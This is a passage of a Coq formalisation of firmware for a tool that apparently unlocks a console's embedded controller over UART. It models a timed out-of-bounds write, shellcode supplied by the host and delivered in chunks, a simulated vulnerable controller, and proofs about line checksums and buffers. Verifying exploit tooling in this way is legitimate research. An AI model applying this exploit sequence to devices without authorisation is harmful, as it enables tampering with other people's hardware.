  map (fun i => u8_of_Z (Z.land (Z.shiftr write_val (Z.of_nat i * 8)) 0xff))
      (seq 0 4).

(** Some byte of the address is a backspace, CR, LF or NAK. *)
Definition has_special_byte (write_val : Z) : bool :=
  existsb is_special (target_of write_val).

(** The zero-padded values written ahead of the final one: one for each
    printable byte of [target], the most significant first. *)
Definition prewrites (target : list u8) : list (list u8) :=
  flat_map (fun i =>
              let pos := (length target - i - 1)%nat in
              if is_printable (nth pos target zero)
              then [zero_upto pos target] else [])
           (seq 0 (length target)).

Fixpoint write_oob_all (values : list (list u8)) : M unit :=
  match values with
  | [] => ret tt
  | value :: rest => write_oob value ;;; write_oob_all rest
  end.

(** What one [write_oob] does. *)
Definition write_oob_events (cc : ChipConsts) (value : list u8) : list Event :=
  [ EvUartWrite [chr_NAK] true;
    EvBusyWaitMs 10;
    EvUartWrite
      (map (fun i => nth (i mod length lut)%nat lut zero)
           (seq 0 (Z.to_nat (u32_wrap (160 * filler_multiplier cc))))) true;
    EvBusyWaitUs (pwn_delay_us cc);
    EvUartWrite ([u8_of_Z 0xc] ++ value ++ [zero] ++ [chr_NAK]) true;
    EvBusyWaitMs (post_process_ms cc);
    EvRxClear ].

(** The four bytes an overwrite write carries: such a write is the
    cursor-advance byte, the value, a zero and a NAK. *)
Definition oob_value (e : Event) : option (list u8) :=
  match e with
  | EvUartWrite [c; b0; b1; b2; b3; z; n] _ =>
      if chr_eqb c (u8_of_Z 0xc) && chr_eqb z zero && chr_eqb n chr_NAK
      then Some [b0; b1; b2; b3] else None
  | _ => None
  end.

(** The values of the overwrite writes of a trace, in order. *)
Definition oob_values (evs : list Event) : list (list u8) :=
  omap oob_value evs.

(** A session that has [fw] cached as its firmware constants. *)
Definition session_with (fw : FwConstants) : Session :=
  {| events := [];
     chip_consts_ := salina_consts_;
     fw_consts_valid_ := true;
     fw_consts_ := fw;
     fw_constants_map := fw_constants_map_init |}.

(** What [cmd_send_recv] does when the echo comes back: the command with
    its checksum suffix, the echo wait and the read of the result. *)
Definition cmd_events (cmdline : str) (timeout_us : Z) : list Event :=
  let cmd := cmdline ++ [chr_colon] ++ format_0X 2 (checksum cmdline)
               ++ [chr_LF] in
  [ EvUartWrite cmd true;
    EvRxWaitEcho cmdline (u32_wrap (Z.of_nat (length cmd) * 200));
    EvRxReadResult timeout_us ].

(** What a successful [is_unlocked] does: a NAK and the [getserialno]
    exchange. *)
Definition is_unlocked_events : list Event :=
  [EvUartWrite [chr_NAK] true; EvBusyWaitMs 10]
    ++ cmd_events (lit "getserialno") 10000.

(** The commands a trace sent to the controller and waited on. *)
Definition commands_sent (evs : list Event) : list str :=
  omap (fun e => match e with
                 | EvRxWaitEcho cmdline _ => Some cmdline
                 | _ => None
                 end) evs.

(** The two conditions the data model states for the ring buffer: at most
    [BufferSize - 1] bytes are held, and [num_newlines] is the number of
    newline bytes among them. *)
Definition buffer_inv (BufferSize : Z) (b : Buffer) : Prop :=
  read_available BufferSize b <= BufferSize - 1 /\
  num_newlines b = count_newlines (stored BufferSize b).

(** The indices are in range and the storage has its declared size. *)
Definition buffer_wf (BufferSize : Z) (b : Buffer) : Prop :=
  0 <= wpos b < BufferSize /\
  0 <= rpos b < BufferSize /\
  length (buffer b) = Z.to_nat BufferSize.

(** A full [Buffer1k]: the state a fresh one is in after 1023 bytes ["a"]
    were pushed and none was read. *)
Definition buffer_full1k : Buffer :=
  {| wpos := 1023; rpos := 0; num_newlines := 0;
     buffer := replicate 1023 "a"%char ++ [zero] |}.

(** The invariant in the form the operations maintain: indices in range,
    storage of the declared size, and an exact newline counter. *)
Definition buffer_ok (BufferSize : Z) (b : Buffer) : Prop :=
  buffer_wf BufferSize b /\
  num_newlines b = count_newlines (stored BufferSize b).

(** ** Further vocabulary *)

(** The bytes [cmd_send] puts on the wire for [cmdline]: the command, a
    colon, the two upper-case digits of its checksum and a newline. *)
Definition cmd_frame (cmdline : str) : str :=
  cmdline ++ [chr_colon] ++ format_0X 2 (checksum cmdline) ++ [chr_LF].

(** The receive interrupt run once per byte of [data]. *)
Definition push_all (BufferSize : Z) (b : Buffer) (data : list u8) : Buffer :=
  fold_left (push BufferSize) data b.

(** ** The binary frame for the host *)

(** The numeric values of [enum ResultType : u8]. *)
Definition ResultType_value (t : ResultType) : Z :=
  match t with
  | kTimeout => 0
  | kUnknown => 1
  | kComment => 2
  | kInfo => 3
  | kOk => 4
  | kNg => 5
  end.

(** [Result::to_usb_response]. On the 32-bit little-endian target
    [sizeof(type_)] is 1 and [sizeof(response_len)], [sizeof(status_)]
    are 4, and [memcpy] of an integer lays it out least significant byte
    first. *)
Definition to_usb_response (r : Result) : list u8 :=
  let response_len := Z.of_nat (length (response_ r)) in
  let response_len :=
    if is_ok_or_ng r then size_wrap (response_len + 4) else response_len in
  let data := replicate (Z.to_nat (size_wrap (1 + 4 + response_len))) zero in
  let pos := 0%nat in
  let data := memcpy data pos [u8_of_Z (ResultType_value (type_ r))] in
  let pos := (pos + 1)%nat in
  let data := memcpy data pos (le32 response_len) in
  let pos := (pos + 4)%nat in
  let data := if is_ok_or_ng r then memcpy data pos (le32 (status_ r)) else data in
  let pos := if is_ok_or_ng r then (pos + 4)%nat else pos in
  memcpy data pos (response_ r).

(** The value of four bytes laid out least significant first. *)
Definition le32_value (bs : list u8) : Z :=
  fold_right (fun b acc => Z_of_u8 b + 256 * acc) 0 bs.

(** A result as the constructors of [Result] build it: a 32-bit status
    for Ok and Ng, [kInvalidStatus] for the other variants. *)
Definition Result_wf (r : Result) : Prop :=
  if is_ok_or_ng r then 0 <= status_ r < 2 ^ 32
  else status_ r = kInvalidStatus.

(** ** Host command classification *)

Inductive CommandType :=
  | kUnlock
  | kPicoReset
  | kEmcReset
  | kEmcRom
  | kSetFwConsts
  | kSetChipConsts
  | kPassthroughUcmd
  | kPassthroughRom.

(** [parse_command_type]; [in_rom_] is the member it reads. *)
Definition parse_command_type (in_rom_ : bool) (cmd : str) : CommandType :=
  if starts_with cmd (lit "unlock") then kUnlock
  else if starts_with cmd (lit "picoreset") then kPicoReset
  else if starts_with cmd (lit "picoemcreset") then kEmcReset
  else if starts_with cmd (lit "picoemcrom") then kEmcRom
  else if starts_with cmd (lit "picofwconst") then kSetFwConsts
  else if starts_with cmd (lit "picochipconst") then kSetChipConsts
  else if in_rom_ then kPassthroughRom
  else kPassthroughUcmd.

(** The keywords of the control commands. *)
Definition control_keywords : list (str * CommandType) :=
  [ (lit "unlock", kUnlock); (lit "picoreset", kPicoReset);
    (lit "picoemcreset", kEmcReset); (lit "picoemcrom", kEmcRom);
    (lit "picofwconst", kSetFwConsts); (lit "picochipconst", kSetChipConsts) ].

(** ** Footprint of the session's operations *)

(** The two events that drive the controller's reset line. *)
Definition is_reset_event (e : Event) : bool :=
  match e with
  | EvResetSetLow | EvResetRelease => true
  | _ => false
  end.

(** With every wait of the session answered by the oracle, [m] run from
    any session gives a value satisfying [Q]; it only appends events, all
    of them accepted by [P], and leaves the chip constants and the table
    of firmware constants as they were. *)
Definition stage {A} (P : Event -> bool) (Q : A -> Prop) (m : M A) : Prop :=
  forall s, exists a evs s',
    m s = Some (a, s') /\ Q a /\
    events s' = events s ++ evs /\ forallb P evs = true /\
    chip_consts_ s' = chip_consts_ s /\
    fw_constants_map s' = fw_constants_map s.

(** The events of [s'] that came after those of [s]. *)
Definition events_since (s s' : Session) : list Event :=
  drop (length (events s)) (events s').

(** The delivery commands for [chunks], numbered from [idx]. *)
Fixpoint puareq2_cmds (idx : Z) (chunks : list (list u8)) : list str :=
  match chunks with
  | [] => []
  | chunk :: rest =>
      (lit "puareq2 " ++ format_x idx ++ [chr_space] ++ buf2hex chunk)
        :: puareq2_cmds (idx + 1) rest
  end.

(** The statuses with which [exploit_setup] gives up. *)
Definition setup_failures : list Z :=
  [ StatusCode.kFwConstsVersionFailed; StatusCode.kFwConstsVersionUnknown;
    StatusCode.kSetPayloadTooLarge; StatusCode.kSetPayloadPuareq1Failed;
    StatusCode.kSetPayloadPuareq2Failed; StatusCode.kFwConstsInvalid ].

(** The result is plain success or an Ng with one of [codes]. *)
Definition ok_or_fails (codes : list Z) (r : Result) : Prop :=
  r = new_success [] \/ (is_ng r = true /\ status_ r ∈ codes).

(** A controller that behaves as a vulnerable one does, for running the
    unlock sequence: it echoes every command; [getserialno] is refused
    until the hax command has been sent; [version] answers the first
    table entry's version until an overwrite has been written and is an
    unknown command afterwards; everything else is acknowledged. *)
Definition emc_vulnerable : Emc :=
  {| emc_echo := fun _ => true;
     emc_reply := fun evs =>
       let cmds := commands_sent evs in
       match last cmds with
       | None => None
       | Some cmd =>
           if starts_with cmd (lit "getserialno") then
             if existsb (fun c => starts_with c hax_cmd_name_) cmds
             then Some (true, StatusCode.kSuccess, lit "0123456789")
             else Some (false, StatusCode.kUcmdUnknownCmd, [])
           else if starts_with cmd (lit "version") then
             match oob_values evs with
             | [] => Some (true, StatusCode.kSuccess,
                           lit "E1E 0001 0000 0004 13D0")
             | _ :: _ => Some (false, StatusCode.kUcmdUnknownCmd, [])
             end
           else Some (true, StatusCode.kSuccess, [])
       end;
     reset_level := fun _ => true |}.

(** ** Constants set by the host *)

Definition chr_dot : ascii := "."%char.

(** [std::replace_if(version.begin(), version.end(), c == '.', ' ')] *)
Definition replace_dots (version : str) : str :=
  map (fun c => if chr_eqb c chr_dot then chr_space else c) version.

(** [operator==] on [std::string]. *)
Definition str_eqb (a b : str) : bool := bool_decide (a = b).

Definition set_chip_consts_ (cc : ChipConsts) : M unit :=
  fun s => Some (tt, {| events := events s;
                        chip_consts_ := cc;
                        fw_consts_valid_ := fw_consts_valid_ s;
                        fw_consts_ := fw_consts_ s;
                        fw_constants_map := fw_constants_map s |}).

(** [fw_constants_map.insert_or_assign(version, fw)] *)
Definition insert_or_assign (version : str) (fw : FwConstants) : M unit :=
  fun s => Some (tt, {| events := events s;
                        chip_consts_ := chip_consts_ s;
                        fw_consts_valid_ := fw_consts_valid_ s;
                        fw_consts_ := fw_consts_ s;
                        fw_constants_map :=
                          <[version := fw]> (fw_constants_map s) |}).

Section HostConstants.
(** [split_string] is declared in string_utils.h, which is not part of
    the sources at hand: the two handlers are modelled over any such
    function. [int_from_hex] is called here with its default offset,
    taken to be 0. *)
Variable split_string : str -> ascii -> list str.

Definition set_chip_consts (cmd : str) : M Result :=
  let ng := new_ng StatusCode.kChipConstsInvalid [] in
  let success := new_success [] in
  let parts := split_string cmd chr_space in
  let num_parts := length parts in
  if (num_parts =? 2)%nat then
    let chip := nth 1 parts [] in
    if str_eqb chip (lit "salina") then
      set_chip_consts_ salina_consts_ ;;;
      ret success
    else if str_eqb chip (lit "salina2") then
      set_chip_consts_ salina2_consts_ ;;;
      ret success
    else ret ng
  else if (num_parts =? 4)%nat then
    let filler_multiplier := int_from_hex 1 (nth 1 parts []) 0 in
    let post_process_ms := int_from_hex 2 (nth 2 parts []) 0 in
    let pwn_delay_us := int_from_hex 2 (nth 3 parts []) 0 in
    match filler_multiplier, post_process_ms, pwn_delay_us with
    | Some f, Some p, Some d =>
        set_chip_consts_ (mkChipConsts f p d) ;;;
        ret success
    | _, _, _ => ret ng
    end
  else ret ng.

Definition set_fw_consts (cmd : str) : M Result :=
  let ng := new_ng StatusCode.kFwConstsInvalid [] in
  let parts := split_string cmd chr_space in
  if negb (length parts =? 4)%nat then ret ng
  else
    let version := replace_dots (nth 1 parts []) in
    let buf_addr := int_from_hex 4 (nth 2 parts []) 0 in
    match buf_addr with
    | None => ret ng
    | Some addr =>
        match hex2buf (nth 3 parts []) with
        | None => ret ng
        | Some shellcode =>
            insert_or_assign version (mkFwConstants addr shellcode) ;;;
            set_fw_consts_ (mkFwConstants 0 []) false ;;;
            ret (new_success [])
        end
    end.

End HostConstants.

(** The chip constants fit the types they are parsed with: [u8] for the
    multiplier, [u16] for the two delays. *)
Definition chip_consts_in_range (cc : ChipConsts) : Prop :=
  0 <= filler_multiplier cc < 2 ^ 8 /\
  0 <= post_process_ms cc < 2 ^ 16 /\
  0 <= pwn_delay_us cc < 2 ^ 16.

(** A splitter to run the handlers with: the pieces of [s] between
    occurrences of [sep]. *)
Fixpoint split_at (sep : ascii) (s : str) : list str :=
  match s with
  | [] => [[]]
  | c :: rest =>
      match split_at sep rest with
      | [] => [[]]
      | piece :: pieces =>
          if chr_eqb c sep then [] :: piece :: pieces
          else (c :: piece) :: pieces
      end
  end.

(** A built-in firmware whose constants can be used as they are: the
    payload passes the size check and makes two chunks, and the address
    has no reserved byte and needs one pre-write. *)
Definition fw_usable (fw : FwConstants) : bool :=
  negb (has_special_byte (ucmd_ua_buf_addr fw))
    && match craft_payload fw with
       | Some payload => (length payload =? 100)%nat
       | None => false
       end
    && (length (prewrites (target_of (ucmd_ua_buf_addr fw))) =? 1)%nat.

(** ** Requests and their acknowledgement *)

(** What [nak] does. *)
Definition nak_events : list Event :=
  [EvUartWrite [chr_NAK] true; EvBusyWaitMs 10].

(** Whether the controller acknowledges [cmdline] when it is sent after
    the trace [evs]: the echo comes back, and the result then read is
    "OK 00000000". *)
Definition acknowledged (emc : Emc) (evs : list Event) (cmdline : str)
    (timeout_us : Z) : bool :=
  emc_echo emc (evs ++ take 2 (cmd_events cmdline timeout_us))
    && match emc_reply emc (evs ++ cmd_events cmdline timeout_us) with
       | Some (true, status, _) => status =? StatusCode.kSuccess
       | _ => false
       end.

(** The index of the first of [requests] that the controller does not
    acknowledge, when they are sent one after the other from the trace
    [evs] with the timeout of [puareq2]; [None] when it acknowledges them
    all. *)
Fixpoint first_unacked (emc : Emc) (evs : list Event) (requests : list str)
  : option nat :=
  match requests with
  | [] => None
  | cmdline :: rest =>
      if acknowledged emc evs cmdline 10000 then
        option_map S (first_unacked emc (evs ++ cmd_events cmdline 10000) rest)
      else Some O
  end.

(** The data of the UART writes of a trace, in order. *)
Definition session_writes (evs : list Event) : list str :=
  omap (fun e => match e with
                 | EvUartWrite data _ => Some data
                 | _ => None
                 end) evs.

(** ** The read loops over the receive buffer *)

(** The loops that take lines off [uart_rx_], run on a buffer that the
    receive interrupt does not fill meanwhile. The clock is the number of
    times a timeout test lets a loop go round again; [None] is the undefined
    behaviour of [validate_line], or a list of clocks that is used up. *)
Module UartRx.
Section Loops.
Variable BufferSize : Z.

(** [Buffer::read_line_timeout]: [more] is the number of further rounds
    the clock allows after the first. *)
Fixpoint read_line_timeout (more : nat) (b : Buffer) (line : str)
  : option (bool * str * Buffer) :=
  match read_line BufferSize b line with
  | None => None
  | Some (true, line', b') => Some (true, line', b')
  | Some (false, line', b') =>
      match more with
      | O => Some (false, line', b')
      | S more' => read_line_timeout more' b' line'
      end
  end.

(** The loop of [read_result]; [retries] holds the clock of each of its
    calls of [read_line] in turn, [line] its local string. *)
Fixpoint read_result_loop (retries : list nat) (b : Buffer) (line : str)
  : option (Result * Buffer) :=
  match retries with
  | [] => None
  | more :: retries' =>
      match read_line_timeout more b line with
      | None => None
      | Some (false, _, b') => Some (new_timeout, b')
      | Some (true, line', b') =>
          let result := from_str line' in
          if is_ok_or_ng result then Some (result, b')
          else read_result_loop retries' b' line'
      end
  end.

Definition read_result (retries : list nat) (b : Buffer)
  : option (Result * Buffer) :=
  read_result_loop retries b [].

(** The echo wait of [cmd_send], with [readback] its local string. *)
Fixpoint wait_echo_loop (cmdline : str) (retries : list nat) (b : Buffer)
    (readback : str) : option (bool * Buffer) :=
  match retries with
  | [] => None
  | more :: retries' =>
      match read_line_timeout more b readback with
      | None => None
      | Some (false, _, b') => Some (false, b')
      | Some (true, readback', b') =>
          if str_eqb readback' cmdline then Some (true, b')
          else wait_echo_loop cmdline retries' b' readback'
      end
  end.

Definition wait_echo (cmdline : str) (retries : list nat) (b : Buffer)
  : option (bool * Buffer) :=
  wait_echo_loop cmdline retries b [].

End Loops.
End UartRx.

(** ** The host side *)

(** What the device does, in program order: the session's own events,
    and the calls that leave the session. [cdc_write] is taken as one
    step, whatever the USB stack does with the frame. *)
Inductive DevEvent :=
  | DevSession (e : Event)
  | DevCdcWrite (itf : Z) (buf : list u8)
  | DevRomGpioSetLow
  | DevRomGpioRelease
  | DevSetBaudrate (baudrate : Z)
  | DevMakeTimeout (us : Z)
  | DevBusyWaitUntil
  | DevResetUsbBoot.

Record Device := mkDevice {
  dev_trace : list DevEvent;
  dev_session : Session;
  in_rom_ : bool;
}.

Definition DM (A : Type) : Type := Device -> option (A * Device).

Definition dret {A} (a : A) : DM A := fun d => Some (a, d).
Definition dbind {A B} (m : DM A) (k : A -> DM B) : DM B :=
  fun d => match m d with
           | Some (a, d') => k a d'
           | None => None
           end.

Notation "x <-- m ;; k" := (dbind m (fun x => k))
  (at level 100, m at next level, right associativity).
Notation "m ;;;; k" := (dbind m (fun _ => k))
  (at level 100, right associativity).

(** A step of the session, run inside the device: its events go to the
    device's trace as they happen. *)
Definition lift {A} (m : M A) : DM A :=
  fun d =>
    match m (dev_session d) with
    | None => None
    | Some (a, s') =>
        Some (a, {| dev_trace :=
                      dev_trace d
                        ++ map DevSession (events_since (dev_session d) s');
                    dev_session := s';
                    in_rom_ := in_rom_ d |})
    end.

Definition dev_emit (e : DevEvent) : DM unit :=
  fun d => Some (tt, {| dev_trace := dev_trace d ++ [e];
                        dev_session := dev_session d;
                        in_rom_ := in_rom_ d |}).

Definition set_in_rom_ (v : bool) : DM unit :=
  fun d => Some (tt, {| dev_trace := dev_trace d;
                        dev_session := dev_session d;
                        in_rom_ := v |}).

Definition get_device : DM Device := fun d => Some (d, d).

Definition cdc_write (itf : Z) (buf : list u8) : DM unit :=
  dev_emit (DevCdcWrite itf buf).

Section HostCommands.
Variable emc : Emc.
(** [split_string], from string_utils.h, is a parameter here too. *)
Variable split_string : str -> ascii -> list str.

Definition rom_enter_exit (cmd : str) : DM Result :=
  let ng := new_ng StatusCode.kUcmdUnknownCmd [] in
  let parts := split_string cmd chr_space in
  if negb (length parts =? 2)%nat then dret ng
  else
    let mode := nth 1 parts [] in
    if str_eqb mode (lit "enter") then
      lift (emit EvResetSetLow) ;;;;
      dev_emit (DevMakeTimeout 100) ;;;;
      dev_emit DevRomGpioSetLow ;;;;
      dev_emit (DevSetBaudrate 460800) ;;;;
      lift uart_rx_clear ;;;;
      dev_emit DevBusyWaitUntil ;;;;
      set_in_rom_ true ;;;;
      lift (emit EvResetRelease) ;;;;
      dret (new_success [])
    else if str_eqb mode (lit "exit") then
      lift (emit EvResetSetLow) ;;;;
      dev_emit (DevMakeTimeout 100) ;;;;
      dev_emit DevRomGpioRelease ;;;;
      dev_emit (DevSetBaudrate 115200) ;;;;
      lift uart_rx_clear ;;;;
      dev_emit DevBusyWaitUntil ;;;;
      set_in_rom_ false ;;;;
      lift (emit EvResetRelease) ;;;;
      dret (new_success [])
    else dret ng.

(** The [switch] of [process_cmd]: the result to report, or [None] when
    control does not come back ([reset_usb_boot]). *)
Definition process_cmd_switch (cmd_type : CommandType) (cmd : str)
  : DM (option Result) :=
  match cmd_type with
  | kUnlock =>
      result <-- lift (autorun emc) ;;
      dret (Some result)
  | kPicoReset =>
      dev_emit DevResetUsbBoot ;;;;
      dret None
  | kEmcReset =>
      lift reset_reset ;;;;
      dret (Some (new_success []))
  | kEmcRom =>
      result <-- rom_enter_exit cmd ;;
      dret (Some result)
  | kSetFwConsts =>
      result <-- lift (set_fw_consts split_string cmd) ;;
      dret (Some result)
  | kSetChipConsts =>
      result <-- lift (set_chip_consts split_string cmd) ;;
      dret (Some result)
  | kPassthroughUcmd | kPassthroughRom =>
      dret (Some (new_ng StatusCode.kUcmdUnknownCmd []))
  end.

Definition process_cmd (itf : Z) (cmd : str) : DM unit :=
  d <-- get_device ;;
  let cmd_type := parse_command_type (in_rom_ d) cmd in
  match cmd_type with
  | kPassthroughUcmd =>
      lift (cmd_send emc cmd false) ;;;;
      dret tt
  | kPassthroughRom =>
      match hex2buf cmd with
      | Some buf => lift (emit (EvUartWrite buf false))
      | None => dret tt
      end
  | _ =>
      cdc_write itf (to_usb_response (new_unknown cmd)) ;;;;
      result <-- process_cmd_switch cmd_type cmd ;;
      match result with
      | Some result => cdc_write itf (to_usb_response result)
      | None => dret tt
      end
  end.

End HostCommands.

(** The frames written to the host in a trace, with their interface. *)
Definition cdc_frames (trace : list DevEvent) : list (Z * list u8) :=
  omap (fun e => match e with
                 | DevCdcWrite itf buf => Some (itf, buf)
                 | _ => None
                 end) trace.

(** The bytes written to the UART in a trace. *)
Definition uart_writes (trace : list DevEvent) : list (str * bool) :=
  omap (fun e => match e with
                 | DevSession (EvUartWrite data wait_tx) => Some (data, wait_tx)
                 | _ => None
                 end) trace.

(** The events of [d'] that came after those of [d]. *)
Definition trace_since (d d' : Device) : list DevEvent :=
  drop (length (dev_trace d)) (dev_trace d').

(** No control keyword starts [cmd]. *)
Definition no_keyword (cmd : str) : Prop :=
  forall kw t, (kw, t) ∈ control_keywords -> starts_with cmd kw = false.

(** The device after it has done [new]. *)
Definition dev_log (d : Device) (new : list DevEvent) : Device :=
  {| dev_trace := dev_trace d ++ new;
     dev_session := dev_session d;
     in_rom_ := in_rom_ d |}.

(** Whenever [m] returns it has only added to the trace, and has written
    no frame to the host. *)
Definition dquiet {A} (m : DM A) : Prop :=
  forall d a d',
    m d = Some (a, d') ->
    exists new, dev_trace d' = dev_trace d ++ new /\ cdc_frames new = [].

(** * Properties *)

(** ** Characters and hexadecimal digits *)

Lemma Z_of_u8_range (c : u8) : 0 <= Z_of_u8 c < 256.
Proof.
  unfold Z_of_u8. pose proof (N_ascii_bounded c). lia.
Qed.

Lemma Z_of_u8_of_Z (z : Z) : Z_of_u8 (u8_of_Z z) = z mod 256.
Proof.
  unfold Z_of_u8, u8_of_Z.
  assert (0 <= z mod 256 < 256) by (apply Z.mod_pos_bound; lia).
  rewrite N_ascii_embedding by lia. lia.
Qed.

Lemma u8_of_Z_of_u8 (c : u8) : u8_of_Z (Z_of_u8 c) = c.
Proof.
  unfold u8_of_Z. rewrite Z.mod_small by apply Z_of_u8_range.
  unfold Z_of_u8. rewrite N2Z.id. apply ascii_N_embedding.
Qed.

Lemma chr_eqb_eq (a b : ascii) : chr_eqb a b = true <-> a = b.
Proof. apply Ascii.eqb_eq. Qed.

Lemma chr_eqb_neq (a b : ascii) : chr_eqb a b = false <-> a <> b.
Proof. apply Ascii.eqb_neq. Qed.

Lemma hex_digit_range (c : ascii) (d : Z) : hex_digit c = Some d -> 0 <= d < 16.
Proof.
  unfold hex_digit. intros H.
  repeat match type of H with
         | (if ?b then _ else _) = _ => destruct b eqn:?
         end; inversion H; lia.
Qed.

Lemma hex_digit_not_colon (c : ascii) (d : Z) :
  hex_digit c = Some d -> c <> chr_colon.
Proof. intros H ->. vm_compute in H. discriminate. Qed.

Lemma hex_digit_not_crlf (c : ascii) (d : Z) :
  hex_digit c = Some d -> is_crlf c = false.
Proof.
  intros H. unfold is_crlf.
  destruct (chr_eqb c chr_CR) eqn:E1.
  { apply chr_eqb_eq in E1. subst. vm_compute in H. discriminate. }
  destruct (chr_eqb c chr_LF) eqn:E2; [|reflexivity].
  apply chr_eqb_eq in E2. subst. vm_compute in H. discriminate.
Qed.

(** ** [find_last_of] and [strip_trailing_crlf] *)

Lemma find_last_of_Some (c : ascii) (s : str) (i : nat) :
  find_last_of c s = Some i ->
  s = take i s ++ c :: drop (S i) s /\ c ∉ drop (S i) s.
Proof.
  revert i. induction s as [|x rest IH]; intros i H; simpl in H.
  - discriminate.
  - destruct (find_last_of c rest) as [j|] eqn:E.
    + inversion H; subst. destruct (IH j eq_refl) as [IH1 IH2].
      simpl. split; [f_equal; exact IH1 | exact IH2].
    + destruct (chr_eqb x c) eqn:Ex; [|discriminate].
      inversion H; subst. apply chr_eqb_eq in Ex. subst x.
      simpl. rewrite drop_0. split; [reflexivity|].
      clear IH H. induction rest as [|y r IHr]; [apply not_elem_of_nil|].
      simpl in E. destruct (find_last_of c r); [discriminate|].
      destruct (chr_eqb y c) eqn:Ey; [discriminate|].
      apply chr_eqb_neq in Ey. apply not_elem_of_cons. split; [congruence|].
      apply IHr. reflexivity.
Qed.

Lemma find_last_of_None (c : ascii) (s : str) :
  c ∉ s -> find_last_of c s = None.
Proof.
  induction s as [|x rest IH]; intros H; simpl; [reflexivity|].
  apply not_elem_of_cons in H as [Hx Hr]. rewrite (IH Hr).
  destruct (chr_eqb x c) eqn:E; [|reflexivity].
  apply chr_eqb_eq in E. congruence.
Qed.

Lemma find_last_of_app (c : ascii) (p t : str) :
  c ∉ t -> find_last_of c (p ++ c :: t) = Some (length p).
Proof.
  intros Ht. induction p as [|x p IH]; simpl.
  - rewrite (find_last_of_None c t Ht).
    unfold chr_eqb. rewrite Ascii.eqb_refl. reflexivity.
  - rewrite IH. reflexivity.
Qed.

(** A line whose last character is neither CR nor LF is left alone. *)
Lemma strip_trailing_crlf_keep (p : str) (c : ascii) :
  is_crlf c = false -> strip_trailing_crlf (p ++ [c]) = p ++ [c].
Proof.
  intros Hc. induction p as [|x p IH]; simpl.
  - rewrite Hc. reflexivity.
  - rewrite IH. destruct (p ++ [c]) eqn:E; [|reflexivity].
    destruct p; discriminate.
Qed.

Lemma strip_trailing_crlf_all (t : str) :
  Forall (fun c => is_crlf c = true) t -> strip_trailing_crlf t = [].
Proof.
  induction 1 as [|c t Hc _ IH]; simpl; [reflexivity|].
  rewrite IH, Hc. reflexivity.
Qed.

Lemma strip_trailing_crlf_app (s t : str) :
  Forall (fun c => is_crlf c = true) t ->
  strip_trailing_crlf (s ++ t) = strip_trailing_crlf s.
Proof.
  intros Ht. induction s as [|x s IH]; simpl.
  - apply strip_trailing_crlf_all, Ht.
  - rewrite IH. reflexivity.
Qed.

(** What [strip_trailing_crlf] removes is a run of CR and LF, and what it
    leaves does not end in one. *)
Lemma strip_trailing_crlf_split (line : str) :
  exists tail,
    line = strip_trailing_crlf line ++ tail /\
    Forall (fun c => is_crlf c = true) tail /\
    (forall p c, strip_trailing_crlf line = p ++ [c] -> is_crlf c = false).
Proof.
  induction line as [|x rest (tail & Hsplit & Htail & Hlast)]; simpl.
  - exists []. repeat split; [constructor|]. intros [|? ?] ? ?; discriminate.
  - destruct (strip_trailing_crlf rest) as [|y r] eqn:E.
    + destruct (is_crlf x) eqn:Ex.
      * exists (x :: tail). simpl in Hsplit. subst rest.
        repeat split; [constructor; assumption|].
        intros [|? ?] ? ?; discriminate.
      * exists tail. simpl in *. subst rest. repeat split; [assumption|].
        intros [|? [|? ?]] c Hp; inversion Hp; subst; assumption.
    + exists tail. rewrite Hsplit at 1. repeat split; [assumption|].
      intros [|z p] c Hp; inversion Hp; subst.
      apply (Hlast p c). assumption.
Qed.

(** ** [validate_line] *)


Lemma checksum_range (buf : str) : 0 <= checksum buf < 256.
Proof.
  unfold checksum.
  assert (G : forall acc, 0 <= acc < 256 ->
    0 <= fold_left (fun csum b => (csum + Z_of_u8 b) mod 256) buf acc < 256).
  { induction buf as [|b buf IH]; intros acc Hacc; simpl; [exact Hacc|].
    apply IH. apply Z.mod_pos_bound. lia. }
  apply G. lia.
Qed.

Lemma validate_line_accepts (line body : str) (h l : ascii) :
  line <> [] ->
  strip_trailing_crlf line = body ++ [chr_colon; h; l] ->
  checksum_suffix body h l ->
  validate_line line = Some (true, body).
Proof.
  intros Hne Hstrip (hv & lv & Hh & Hl & Hsum).
  unfold validate_line. destruct line as [|x rest]; [congruence|].
  rewrite Hstrip.
  assert (Hfind : find_last_of chr_colon (body ++ [chr_colon; h; l])
                  = Some (length body)).
  { apply find_last_of_app. intros Hin.
    apply elem_of_cons in Hin as [Heq|Hin].
    - exact (hex_digit_not_colon _ _ Hh (eq_sym Heq)).
    - apply list_elem_of_singleton in Hin.
      exact (hex_digit_not_colon _ _ Hl (eq_sym Hin)). }
  rewrite Hfind.
  rewrite length_app. simpl length.
  replace (length body + 3 =? length body + 3)%nat with true
    by (symmetry; apply Nat.eqb_refl).
  simpl negb. cbv iota.
  assert (Hdrop : drop (length body + 1) (body ++ [chr_colon; h; l]) = [h; l]).
  { rewrite (drop_app_add' body [chr_colon; h; l] (length body) 1) by reflexivity.
    reflexivity. }
  rewrite Hdrop.
  rewrite take_app_length.
  simpl hex2buf. rewrite Hh, Hl. simpl.
  rewrite Z_of_u8_of_Z.
  pose proof (checksum_range body). pose proof (hex_digit_range _ _ Hh).
  pose proof (hex_digit_range _ _ Hl).
  rewrite Z.mod_small by lia.
  replace (16 * hv + lv =? checksum body) with true by (symmetry; lia).
  reflexivity.
Qed.

Lemma hex2buf_two (h l : ascii) :
  hex2buf [h; l] =
    match hex_digit h, hex_digit l with
    | Some hv, Some lv => Some [u8_of_Z (16 * hv + lv)]
    | _, _ => None
    end.
Proof. simpl. destruct (hex_digit h), (hex_digit l); reflexivity. Qed.

Lemma length_two_inv {A} (l : list A) :
  length l = 2%nat -> exists a b, l = [a; b].
Proof.
  destruct l as [|a [|b [|c l]]]; simpl; intros H; try discriminate.
  exists a, b. reflexivity.
Qed.

(** After the length test, the text behind the last colon is two
    characters long. *)
Lemma validate_line_suffix (s : str) (i : nat) :
  find_last_of chr_colon s = Some i ->
  (i + 3)%nat = length s ->
  exists h l, s = take i s ++ [chr_colon; h; l] /\ drop (i + 1) s = [h; l].
Proof.
  intros Hfind Hlen. apply find_last_of_Some in Hfind as [Hs _].
  destruct (length_two_inv (drop (S i) s)) as (h & l & Hhl).
  { rewrite length_drop. lia. }
  exists h, l. rewrite Hhl in Hs. split; [exact Hs|].
  rewrite Nat.add_1_r. exact Hhl.
Qed.

Lemma validate_line_accepted (line body : str) :
  validate_line line = Some (true, body) ->
  line <> [] /\
  exists h l, strip_trailing_crlf line = body ++ [chr_colon; h; l] /\
              checksum_suffix body h l.
Proof.
